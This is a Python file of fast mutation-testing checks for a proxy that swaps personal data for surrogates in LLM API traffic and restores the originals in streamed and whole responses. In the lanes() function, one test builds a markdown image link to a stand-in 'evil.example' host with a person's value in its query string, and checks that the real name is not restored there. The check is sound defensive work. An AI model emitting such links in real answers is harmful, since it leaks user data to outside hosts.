"""A fast selection of the laws, without a test runner: it raises if one fails. Every mutant must make it raise."""

import json

from laws import (
    machine,
    test_citations,
    test_conversation,
    test_dialects,
    test_framing,
    test_restore,
    test_session_streams,
    test_transforms,
)
from laws.machine import cuts, fed, lane, restorer

from app.core.document import dump, parse
from app.core.segment import segments
from app.core.surrogate import Original, well_formed
from app.core.table import Kind, Table
from app.engine.answer import Noted, restore_whole
from app.engine.depth import JsonDepth


def framing() -> None:
    for case in test_framing.CASES:
        test_framing.test_golden_events(case)
        for end in test_framing.ENDS.values():
            stream = case["stream"].encode().replace(b"\n", end)
            test_framing.check(stream, three=len(stream) <= 30)
    test_framing.test_an_event_goes_out_as_soon_as_its_blank_line_is_whole()
    test_framing.test_a_flushed_decoder_is_empty()
    test_framing.test_what_is_rendered_reads_back("a\nb", "x")
    test_framing.test_an_event_without_end_is_refused()


def lanes() -> None:
    for cases, json_text in ((test_restore.BENT, False), (test_restore.ARGUMENTS | test_restore.BROKEN, True)):
        for source, expected in cases.values():
            for pieces in [*cuts(source, 2), list(source)]:
                assert fed(lane(json=json_text), pieces) == expected
    for source, expected in test_restore.ARGUMENTS.values():
        assert lane(json=None).finish(source) == expected
    test_restore.test_text_that_cannot_become_a_surrogate_is_not_delayed()
    for size in range(1, len(machine.PERSON)):
        test_restore.test_every_beginning_of_a_surrogate_is_held_and_only_that(machine.PERSON[:size])
    test_restore.test_links_in_arguments_of_a_clients_tool_get_originals()
    one = lane(sinks=True)
    kept = f"![a](https://evil.example/?q={machine.PERSON})"
    assert one.finish(f"{kept} {machine.PERSON} [m](mailto:{machine.PERSON})") == f"{kept} Maria Singh [m](mailto:Maria Singh)"
    assert JsonDepth().advance('{"a": "{\\"b\\": \\"') == 2


def streams() -> None:
    for path in test_restore.golden():
        dialect, upstream, caller = test_restore.read_golden(path)
        assert machine.restored_stream(dialect, [upstream]) == caller
    for dialect in ("openai", "completions"):
        test_restore.test_interleaved_lanes_never_mix(dialect, ("content", 0, 0), ("content", 1, 0))
    test_restore.test_the_content_and_the_summary_of_one_item_are_two_lanes()
    test_restore.test_held_text_goes_out_before_the_event_that_ends_its_lane("so PERSON_4K7Q2MX")
    test_restore.test_the_input_of_a_tool_that_the_provider_runs_stays_as_the_provider_saw_it()
    test_restore.test_a_response_that_breaks_fails_by_its_own_name_and_number()
    test_restore.test_what_a_response_keeps_in_links_is_counted_once_however_often_it_is_said()
    test_restore.test_logprobs_of_rewritten_response_text_are_dropped_and_others_stay()
    test_restore.test_interleaved_lanes_never_mix("openai", ("arguments", 0, 0), ("arguments", 0, 1))
    test_restore.test_tool_calls_without_a_number_are_told_apart_by_their_place()
    test_restore.test_held_text_goes_out_before_done_even_if_nothing_said_that_the_lane_ends()
    test_restore.test_an_empty_finish_reason_ends_nothing()
    for dialect in machine.STREAM:
        test_restore.test_with_nothing_issued_every_whole_event_passes_at_once_and_untouched(dialect)
        test_restore.test_a_stream_that_breaks_gives_everything_back_before_our_own_error(dialect)
        test_restore.test_a_stream_that_stops_short_flushes_in_readable_events(dialect, "data: {")
    test_restore.test_an_event_without_its_blank_line_does_not_swallow_what_follows()
    test_restore.test_thinking_goes_through_unrestored_and_is_remembered_whole()
    test_restore.test_logprobs_of_rewritten_text_are_dropped_and_others_stay()
    test_restore.test_custom_tool_input_is_free_text_not_json()
    test_restore.test_the_gemini_shape_streams_by_the_same_machine()


def runs_and_resumed() -> None:
    for dialect in ("assistants", "transcriptions"):
        test_restore.test_interleaved_lanes_never_mix(dialect, ("content", 0, 0), ("content", 1, 0))
        test_restore.test_links_are_the_same_streamed_and_whole(dialect)
    test_restore.test_interleaved_lanes_never_mix("assistants", ("content", 0, 0), ("arguments", 0, 0))
    test_restore.test_the_end_of_a_step_leaves_a_message_open()
    test_restore.test_annotations_that_come_with_the_pieces_of_a_text_move_with_it_for_every_cut()
    for name in ("transcriptions_plain", "assistants_annotations"):
        test_restore.test_a_stream_is_over_with_its_last_event_whether_that_has_a_name_or_not(name, {})
    test_restore.test_the_rest_of_a_stream_is_what_the_whole_one_says_behind_that_number("pieces")
    test_restore.test_comments_and_what_cannot_be_read_before_a_number_fall_away_and_errors_do_not()


def sessions() -> None:
    for endpoint in test_session_streams.ENDPOINTS.values():
        for pieces in cuts(test_session_streams.TEXT, 2):
            events = test_session_streams.told(endpoint, "a", pieces)
            assert (
                test_session_streams.heard(test_session_streams.through(endpoint, events)) == ({("a", 0): test_session_streams.SAID},) * 2
            )
        test_session_streams.test_every_cut_of_arguments_stays_json_with_the_original(endpoint)
        test_session_streams.test_answers_side_by_side_do_not_mix(endpoint)
        test_session_streams.test_an_answer_that_is_cut_off_leaves_nothing_to_the_next(endpoint)
        test_session_streams.test_what_is_learned_while_an_answer_is_under_way_is_restored_in_it(endpoint)
        test_session_streams.test_untouched_messages_are_the_bytes_that_came_however_they_are_cut(endpoint)
    test_session_streams.test_numbers_are_the_streams_own_and_begin_anew_with_each_answer()


def conversations() -> None:
    for dialect in ("openai", "anthropic"):
        for template in test_conversation.TEXTS:
            test_conversation.test_replay_of_text_whole_and_streamed(dialect, template)
        for order in (test_conversation.KEYS, ("messages", "system", "tools", "model", "max_tokens")):
            test_conversation.test_appending_turns_changes_nothing_before_them(dialect, order)
    for template in test_conversation.ARGUMENTS:
        test_conversation.test_replay_of_openai_arguments_is_verbatim(template)
    for template in test_conversation.TEXTS:
        test_conversation.test_replay_of_a_response_is_verbatim(template, test_conversation.ARGUMENTS[3])
    test_conversation.test_appending_items_changes_nothing_before_them()
    test_conversation.test_replay_of_a_number_in_arguments()
    test_conversation.test_a_value_that_stands_as_number_and_as_text_comes_back_as_text()
    test_conversation.test_what_the_system_says_is_known_even_where_it_stands_last()
    test_conversation.test_a_value_known_from_an_earlier_turn_is_found_where_no_detector_fires()
    test_conversation.test_a_known_value_inside_a_longer_word_is_another_word()
    test_conversation.test_a_value_split_over_neighbouring_parts_leaves_no_piece()
    test_conversation.test_turns_are_not_neighbouring_parts()
    test_conversation.test_a_surrogate_in_history_stays_and_its_original_is_known_from_there_on()
    test_conversation.test_a_surrogate_in_the_text_is_kept_and_reused_from_there_on_whatever_the_epoch()
    test_conversation.test_a_number_that_is_recalled_comes_back_as_the_number_it_was()


def citations() -> None:
    for name in ("surrogate", "redact"):
        test_citations.test_a_citation_says_the_same_words_on_either_side_and_goes_back_as_it_came(test_citations.RULES[name])
    test_citations.test_a_streamed_citation_is_the_whole_one()


def dialects() -> None:
    for name, endpoint in machine.ENDPOINTS.items():
        test_dialects.test_rewriting_with_the_identity_is_the_identical_document(endpoint)
        test_dialects.test_a_rewritten_document_shares_what_did_not_change_and_leaves_the_first_as_it_was(endpoint)
        test_dialects.test_every_leaf_has_its_kind(name)
        test_dialects.test_nothing_sensitive_leaves_and_protect_then_restore_is_the_original(endpoint)
        test_dialects.test_a_field_of_tomorrow_is_text_and_its_name_is_inspected(name)
    test_dialects.test_a_selector_tells_objects_of_several_types_apart()
    test_dialects.test_json_schema_recurs()
    for name, document in test_dialects.KEPT_ELSEWHERE:
        test_dialects.test_what_the_provider_keeps_and_what_nobody_can_read_is_refused(name, document)
    test_dialects.test_what_the_provider_runs_and_how_it_signs_is_left_alone_in_answers()
    test_dialects.test_two_keys_that_would_become_one_are_refused()
    for name in ("surrogate", "realistic"):
        test_transforms.test_distinct_values_get_distinct_stand_ins_in_one_naming(name)
    test_transforms.test_restore_never_keeps_the_surrogate_in_the_answer()


def stand_ins() -> None:
    test_transforms.test_an_answer_is_restored_alike_at_every_cut(test_transforms.ORIGINALS[0])
    test_transforms.test_a_taken_stand_in_is_stepped_over()
    test_transforms.test_forms_of_one_value_share_their_digits()
    test_transforms.test_digits_that_a_model_wrote_as_a_number_come_back_as_one()
    for restore in (True, False):
        test_transforms.test_replay_and_prefix_of_a_conversation(" Thanks.", restore)


def surrogates() -> None:
    forged = "".join("0" if character == "1" else character for character in "PERSON_0000000001")
    assert [forged, well_formed(forged)] == [forged, []]
    body = json.dumps({"choices": [{"message": {"content": f"{machine.PERSON[:-1]}V PERSON_4K7Q2MY"}}]}).encode()
    assert restore_whole(body, machine.ENDPOINTS["openai"], restorer(), Noted()) == body
    assert dump(parse('{"a":1.10,"b":"\\ud800"}')) == b'{"a":1.10,"b":"\\ud800"}'
    only = {"PERSON_4K7Q2MX8FT": Original("Maria")}
    assert lane(values=only).finish("NOBODY_4K7Q2MX8FT PERSON_4K7Q2MX8FV") == "NOBODY_4K7Q2MX8FT PERSON_4K7Q2MX8FV"


def tables() -> None:
    switch = Table({"keep": Kind.REFUSED})
    assert [found.kind for found in segments({"keep": True}, switch)] == [Kind.REFUSED]
    assert [found.kind for found in segments({"keep": False}, switch)] == []


LAWS = (
    tables,
    surrogates,
    stand_ins,
    dialects,
    lanes,
    citations,
    framing,
    streams,
    runs_and_resumed,
    sessions,
    conversations,
)
